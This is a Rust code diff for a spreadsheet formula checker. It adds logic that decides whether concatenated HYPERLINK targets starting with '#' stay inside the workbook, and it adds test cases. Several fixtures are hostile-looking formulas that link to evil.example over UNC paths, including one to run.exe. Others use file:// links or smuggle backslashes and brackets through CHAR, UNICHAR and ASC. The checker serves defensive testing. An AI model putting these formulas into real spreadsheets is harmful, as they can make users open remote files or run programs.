@@ -347,12 +347,7 @@ impl<'f> Reading<'f> {
         if arguments.map_or_else(|| self.calls_behind(), |_| is_behind) && self.grammar.is_excel() {
             return None;
         }
-        // Programs take full-width letters for these as well.
-        let narrow = |letter: char| match letter {
-            '\u{ff01}'..='\u{ff5e}' => char::from_u32(u32::from(letter) - 0xfee0).unwrap_or(letter),
-            letter => letter,
-        };
-        let upper: String = word.chars().map(narrow).collect::<String>().to_uppercase();
+        let upper = narrow(word);
         let mut name = upper.as_str();
         let is_itself = name.contains(FUNCTION_ITSELF);
         while let Some(bare) = BEFORE.iter().find_map(|before| name.strip_prefix(before)) {
@@ -377,12 +372,68 @@ fn is_open_address(arguments: &str) -> bool {
     let is_whole = behind.trim_start().starts_with([',', ';', ')']);
     let address = address.trim().to_ascii_lowercase();
     // More may be put behind it; then the machine's name must have ended.
-    let names_machine = address.splitn(3, '/').nth(2).is_some_and(|rest| rest.contains('/'));
+    let rest = address.splitn(3, '/').nth(2).unwrap_or_default();
+    let names_machine = rest.split_once('/').is_some_and(|(machine, _)| !machine.is_empty());
     let place = address.strip_prefix('#').filter(|place| super::address::is_inside(place));
     // What is put behind a place is no sheet once there is one.
-    place.is_some_and(|place| is_whole || place.contains('!'))
+    place.is_some_and(|place| is_whole || place.contains('!') || is_made_of_places(place, behind))
         || address.starts_with("mailto:")
-        || super::address::is_open(&address) && (is_whole || names_machine)
+        || crate::links::is_open(&address) && (is_whole || names_machine)
+}
+
+/// Functions that make signs of what has none in it.
+const MAKING_SIGNS: &[&str] = &["CHAR", "UNICHAR", "ASC"];
+
+/// Whether what is put together to a place, as tables of contents do (`"#'"&A1&"'!A1"`), is one of this file: a link that begins
+/// with `#` is looked for in the file that has it, and no text in the formula makes it a path or another book.
+fn is_made_of_places(begin: &str, behind: &str) -> bool {
+    let is_place = |text: &str| !text.contains(['/', '[', ']', '\\']) && super::address::is_inside(text);
+    let mut rest = behind.trim_start();
+    if !is_place(begin) || !rest.starts_with('&') {
+        return false;
+    }
+    let mut depth = 0_u32;
+    while let Some(letter) = rest.chars().next() {
+        let end = match letter {
+            '"' | '\'' => {
+                let Some((text, behind)) = rest[1..].split_once(letter) else { return false };
+                if letter == '"' && !is_place(text) {
+                    return false;
+                }
+                rest = behind;
+                continue;
+            }
+            ',' | ';' | ')' | '）' if depth == 0 => return true,
+            letter if is_word(letter) => {
+                let end = rest.find(|letter| !is_word(letter)).unwrap_or(rest.len());
+                let name = narrow(&rest[..end]);
+                let name = BEFORE.iter().find_map(|before| name.strip_prefix(before)).unwrap_or(&name);
+                if MAKING_SIGNS.contains(&name) {
+                    return false;
+                }
+                end
+            }
+            letter => {
+                match letter {
+                    '(' | '（' => depth += 1,
+                    ')' | '）' => depth -= 1,
+                    _ => {}
+                }
+                letter.len_utf8()
+            }
+        };
+        rest = &rest[end..];
+    }
+    false
+}
+
+/// A name in capitals; programs take full-width letters for these as well.
+fn narrow(word: &str) -> String {
+    let narrow = |letter: char| match letter {
+        '\u{ff01}'..='\u{ff5e}' => char::from_u32(u32::from(letter) - 0xfee0).unwrap_or(letter),
+        letter => letter,
+    };
+    word.chars().map(narrow).collect::<String>().to_uppercase()
 }
 
 #[cfg(test)]
@@ -443,8 +494,16 @@ mod tests {
             "'工事｜道路'!A1",
             "'x.ods'#$Sheet1.A1",
             "HYPERLINK(\"#[\\\\evil.example\\s\\a.xlsx]S!A1\")",
-            "HYPERLINK(\"#\"&A1)",
-            "HYPERLINK(\"#'\"&A1&\"'!A1\",A1)",
+            "HYPERLINK(\"#\"&\"[\\\\evil.example\\s\\a.xlsx]S!A1\")",
+            "HYPERLINK(\"#\"&CHAR(91)&A1)",
+            "HYPERLINK(\"#\"&_xlfn.UNICHAR(92)&A1)",
+            "HYPERLINK(\"#\"&ASC(\"［＼＼evil.example\")&A1)",
+            "HYPERLINK(\"#f\"&\"ile:\"&\"/\"&\"/\"&A1)",
+            "HYPERLINK(\"#\"&A1",
+            "HYPERLINK(\"\"&\"#\"&A1)",
+            "HYPERLINK(A1&\"#\"&B1)",
+            "HYPERLINK(\"https://x@evil.example/\")",
+            "HYPERLINK(\"https:///\"&A1)",
             "HYPERLINK(\"#file:///c:/x\")",
             "HYPERLINK(\"file:///c:/x\")",
             "HYPERLINK(\"\\\"&\"\\evil.example\\s\\run.exe\",\"x\")",
@@ -475,6 +534,10 @@ mod tests {
             "HYPERLINK(\"https://x/?q=\"&A1,\"地図\")",
             "HYPERLINK(\"#表!A1\",\"戻る\")",
             "HYPERLINK(\"#'表 1'!A\"&ROW(),\"戻る\")",
+            "HYPERLINK(\"#\"&A1)",
+            "HYPERLINK(\"#'\"&A1&\"'!A1\",A1)",
+            "HYPERLINK(\"#\"&CELL(\"address\",INDEX('表,1'!A:A,MATCH(B1,'表,1'!B:B,0))),\"→\")",
+            "HYPERLINK(\"#表\" & TEXT(A1,\"00\") & \"!A1:B\" & ROW(),\"https://x/\")",
             "'#1 工事'!A1+SUM('#1 工事'!$A$1:$B$2)",
             "'a|B'!$A$1+'A|b'!A2",
             "_xlfn.MAP(A1:A3,_xleta.SUM)",
